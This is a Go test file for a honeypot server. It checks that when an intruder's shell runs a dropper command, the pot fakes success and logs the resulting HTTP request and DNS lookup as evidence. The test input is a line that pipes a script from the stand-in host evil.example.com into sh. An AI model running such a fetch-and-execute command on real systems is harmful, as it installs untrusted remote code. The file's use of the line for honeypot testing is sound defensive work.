package honeypot_test

import (
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kokkuri/kokkuri/internal/event"
	"github.com/kokkuri/kokkuri/internal/honeypot"
)

// calls are what pots sent out, as far as the server knows.
func (f *fixture) calls() []event.Egress {
	f.bus.mu.Lock()
	defer f.bus.mu.Unlock()
	var out []event.Egress
	for _, left := range f.bus.evidence {
		for _, e := range left {
			if e.Egress != nil {
				out = append(out, *e.Egress)
			}
		}
	}
	return out
}

// called waits for a piece of evidence of a pot's call.
func (f *fixture) called(t *testing.T, what string, want func(event.Egress) bool) event.Egress {
	t.Helper()
	var found event.Egress
	require.Eventually(t, func() bool {
		all := f.calls()
		i := slices.IndexFunc(all, want)
		if i >= 0 {
			found = all[i]
		}
		return i >= 0
	}, 20*time.Second, 20*time.Millisecond, "%s; there is %+v", what, f.calls())
	return found
}

func request(url string) func(event.Egress) bool {
	return func(e event.Egress) bool { return e.What == "request" && string(e.URL) == url }
}

func TestWhatADropperAsksForIsEvidence(t *testing.T) {
	f := newFixture(t)
	f.run(t)
	l := f.grant(t, "203.0.113.66/32")
	out, err := f.shell(t.Context(), l.Endpoint, `curl -s http://evil.example.com/x.sh | sh; echo "status $?"`)
	require.NoError(t, err, out)
	assert.Equal(t, "status 0\n", out)
	e := f.called(t, "curl piped to sh", request("http://evil.example.com/x.sh"))
	assert.True(t, e.Invented)
	assert.Equal(t, event.Bytes("evil.example.com"), e.Name)
	assert.Equal(t, uint16(80), e.Destination.Port())
	assert.Equal(t, event.Bytes("GET"), e.Method)
	assert.True(t, slices.ContainsFunc(e.Headers, func(h event.EgressHeader) bool {
		return h.Name == "User-Agent" && strings.HasPrefix(string(h.Value), "curl/")
	}))
	f.called(t, "its question", func(e event.Egress) bool {
		return e.What == "name" && e.Name == "evil.example.com" && e.Type == "A" && e.Code == "NOERROR"
	})
}

var _ = []any{netip.Addr{}, honeypot.Options{}}
